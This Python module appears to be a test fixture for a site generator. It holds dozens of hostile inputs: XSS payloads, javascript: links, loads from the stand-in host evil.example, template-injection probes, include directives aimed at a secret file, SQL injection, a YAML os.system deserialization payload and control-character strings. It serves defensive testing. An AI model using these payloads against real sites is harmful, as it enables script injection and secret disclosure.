"""Texts that would run, fetch, hide or command if a site took people's words for more than words.

Every one marks the window (``__ran``), asks ``evil.example`` for something, or shows a number that only a template engine
could have computed (``OBEYED``) or a word that stands in a file nobody may quote (``SECRET``).
"""

from __future__ import annotations

RUN = "window.__ran=1"
FROM = "https://evil.example"
OBEYED = "1606538"
"""1234 * 1302 - 130: what the template code below comes to."""
SUM = "1234*1302-130"
SECRET = "Sesame-7731-open"
"""Stands in a file beside the documents; no page may hold it."""

MARKUP = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src={FROM}/x.js></sCrIpT>",
    f"<script/x>{RUN}</script/x>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea></style></noscript><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f'" onmouseover="{RUN}" onfocus="{RUN}" autofocus tabindex="1',
    f"' onpointerenter='{RUN}' x='",
    f"` onload=`{RUN}`",
    f'<img src="{FROM}/a.png" srcset="{FROM}/b.png 2x">',
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
    f"<svg><set attributeName=onclick to={RUN}></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={RUN}>">',
    f'<math href="javascript:{RUN}">x</math>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<object data="{FROM}/x.swf"></object><embed src="{FROM}/x">',
    f'<form action="{FROM}"><input name=q autofocus onfocus={RUN}><button formaction="javascript:{RUN}">go</button></form>',
    f'<link rel=stylesheet href="{FROM}/x.css"><style>@import "{FROM}/y.css"; * {{ display: none }}</style>',
    f'<meta http-equiv=refresh content="0;url={FROM}">',
    f'<base href="{FROM}/">',
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src={FROM}/v.mp4 onerror={RUN}><source onerror={RUN}></video>",
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href=" &#x6A;avascript:{RUN}">x</a>',
    f'<a href="java&Tab;script:{RUN}">x</a>',
    f'<a href="vbscript:{RUN}">x</a> <a href="data:text/html,<script>{RUN}</script>">x</a>',
    f'<a href="{FROM}/p" ping="{FROM}/ping" onclick="{RUN}">x</a>',
    f'<div style="background:url({FROM}/s.png);position:fixed;inset:0">x</div>',
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml-stylesheet href='{FROM}/x.xsl'?><!DOCTYPE x [<!ENTITY y SYSTEM '{FROM}/e'>]>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f"<template><script>{RUN}</script></template><slot onslotchange={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; &amp;lt;b&amp;gt;",
    f"<x onclick={RUN} style=display:block>x</x><b id=__config class=md-overlay>x</b>",
)
"""In one line, so that every text field can hold them."""

LINKS = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN} 'title')",
    f"[x](&#106;avascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](java\tscript:{RUN}) [x](\x01javascript:{RUN})",
    f"[x](vbscript:{RUN}) [x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==)",
    f"![x](javascript:{RUN}) ![x]({FROM}/p.png) ![x](//evil.example/p.png)",
    "[x](//evil.example/) [x](\\\\evil.example\\share)",
    f"<javascript:{RUN}> <data:text/html,x> javascript:{RUN}",
    f'x {{: onclick="{RUN}" style="display:none" }} {{: #__search .md-overlay }}',
    f"{{{{ {SUM} }}}} {{% set x = {SUM} %}}{{{{ x }}}} ${{{SUM}}} <%= {SUM} %> #{{{SUM}}} [[{SUM}]]",
    "{{ config }} {% include 'secret.txt' %} {{ page.__class__.__mro__ }} {%",
    '--8<-- "secret.txt" --8<-- "content/calendar/media/secret.txt" {! secret.txt !} !include secret.txt',
)

ODD = (
    "\x02calendar/index.html\x02\x03\x050\x05 \x00\x07\x1b[2J\x7f",
    "line\u2028separator\u2029paragraph\u0085next",
    "\u202eevil.example//:sptth\u202c \u2066 \u200b\u200d\ufeff\ufffe\ufdd0",
    "x" * 700,
    "\U0001f469\u200d\U0001f692" * 20 + "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334",
    "'; DROP TABLE readings; -- ' UNION SELECT 1 \\' \\\" %s %n {0} {x} $1",
    '=HYPERLINK("https://evil.example") @import !!python/object/apply:os.system [id] *alias &anchor',
)

LINES = (*MARKUP, *LINKS, *ODD)
"""Everything that fits in one field."""

BODIES = (
    f"[a]: javascript:{RUN}\n[b]: <data:text/html,x>\n\n[a] [x][b] ![x][a]\n",
    f"# {MARKUP[0]} {{: onclick={RUN} }}\n\n## <img src=x onerror={RUN}>\n\nx\n{{: onclick={RUN} }}\n",
    f"```chart\nmetric: <img src=x onerror={RUN}>\n```\n\n```kpi\nmetrics: [*a, &b '<script>{RUN}</script>']\n```\n",
    f"```chart\nmetric: posts-merged\ntitle: \"</title></script><img src=x onerror={RUN}>\"\nperiod: '<b>'\n```\n",
    f"```chart\n!!python/object/apply:os.system ['true']\n```\n\n```query\nselect '<script>{RUN}</script>'\n```\n",
    f'~~~ {{.python onclick={RUN}}}\n</code></pre><img src=x onerror={RUN}>\n~~~\n\n```"onmouseover={RUN}\nx\n```\n',
    f'<p title="\n```chart\nmetric: posts-merged\n```\n" onclick={RUN}>\n\n`<img src=x onerror={RUN}>`\n',
    f"| a {MARKUP[6]} |\n| --- |\n| <img src=x onerror={RUN}> |\n\nx[^1]\n\n[^1]: <script>{RUN}</script>\n",
    f'!!! danger "<img src=x onerror={RUN}>"\n    <script>{RUN}</script>\n\nTerm\n: <svg onload={RUN}>\n',
    f'--8<-- "secret.txt"\n\n--8<--\nsecret.txt\n--8<--\n\n--8<-- "{FROM}/x"\n\n{{% raw %}}{{{{ {SUM} }}}}{{% endraw %}}\n',
    f"<!-- <script>{RUN}</script> -->\n<script>\n{RUN}\n</script>\n\n<div>\n\n<svg onload={RUN}>\n\n</div>\n",
    f"- [ ] <img src=x onerror={RUN}>\n- [x] [x](javascript:{RUN})\n\n> <iframe src=javascript:{RUN}>\n",
    "> " * 200 + "deep\n\n" + "[" * 400 + "\n\n" + "*" * 401 + "\n\n" + "<b>" * 200,
    "\n".join(LINKS) + "\n\n" + "\n\n".join(ODD) + "\n",
    "\n\n".join(MARKUP) + "\n",
    f"## blog\n\n{MARKUP[6]}\n\n---\n\n{LINKS[0]}\n\n## bluesky\n\n{MARKUP[0]}\n\n---\n\n{FROM}/%22onmouseover={RUN}\n",
)
"""What only the text below the front matter can hold."""

ADDRESSES = (
    f"https://x.example/'onmouseover={RUN};//",
    f"https://x.example/{{{{{SUM}}}}}?a=`{RUN}`",
    f"https://javascript:{RUN}@x.example/",
    f"http://x.example/#javascript:{RUN}",
    "https://x.example/%22%3E%3Cscript%3E/\\..//evil.example",
    "https://x.example/\u202e\u200b(x)[y]{z}|^",
)
"""Addresses that the schema lets through."""


SIZE = 8
"""So many texts stand in one field."""


def chunk(start: int) -> str:
    """Several of them in one line, beginning with another one for every ``start``."""
    return " ".join(LINES[(start + step) % len(LINES)] for step in range(SIZE))
